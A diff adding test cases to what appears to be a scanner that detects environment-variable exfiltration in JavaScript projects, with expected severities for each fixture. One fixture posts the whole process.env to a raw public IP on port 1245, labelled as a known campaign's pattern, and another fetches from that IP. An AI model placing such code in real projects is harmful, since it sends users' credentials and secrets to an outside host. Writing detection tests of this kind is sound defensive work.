@@ -19,6 +19,11 @@ export const send = (event: string) => fetch('https://telemetry.example.org/v1',
 `,
     },
     {
+      name: 'child process given the environment (not sent anywhere)',
+      file: 'scripts/run.js',
+      code: `const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env, stdio: 'inherit' });\nfetch('http://45.61.160.14:8080/health');\n`,
+    },
+    {
       name: 'dev server printing hostname (no send)',
       file: 'server.js',
       code: `const os = require('os');\nconsole.log('listening on', os.hostname(), process.env.PORT);\n`,
@@ -41,6 +46,36 @@ https.get('https://ifconfig.co/json', (r) => {});
 https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments', method: 'POST' }).end(JSON.stringify({ body: fp + os.hostname() }));
 `,
       findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
+    },
+    {
+      name: 'the environment, as a field of the body, posted to a bare public IP (Contagious Interview port 1245): high',
+      file: 'scripts/telemetry.js',
+      code: `const http = require('http');
+const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
+const req = http.request({ host: '45.61.160.14', port: 1245, path: '/collect', method: 'POST' });
+req.end(body);
+`,
+      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /the whole environment\) via http\.request to the raw IP 45\.61\.160\.14/ }],
+    },
+    {
+      name: 'the same to a TEST-NET address stays low (not a public host)',
+      file: 'scripts/telemetry.js',
+      code: `const http = require('http');
+const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
+const req = http.request({ host: '203.0.113.80', port: 1245, path: '/collect', method: 'POST' });
+req.end(body);
+`,
+      findings: [{ line: 3, severity: 'low', confidence: 'low' }],
+    },
+    {
+      name: 'env dump beside a send, with a public DNS server elsewhere in the file: stays low (the send goes to a host name)',
+      file: 'scripts/doctor.js',
+      code: `const dns = require('dns');
+dns.setServers(['8.8.8.8']);
+${'// padding\n'.repeat(40)}console.log(JSON.stringify(process.env, null, 2));
+fetch('https://status.example.org/ping', { method: 'POST', body: JSON.stringify({ ok: true }) });
+`,
+      findings: [{ line: 44, severity: 'low', confidence: 'low' }],
     },
     {
       name: 'env dump posted with axios (low alone; install-time autorun raises it)',
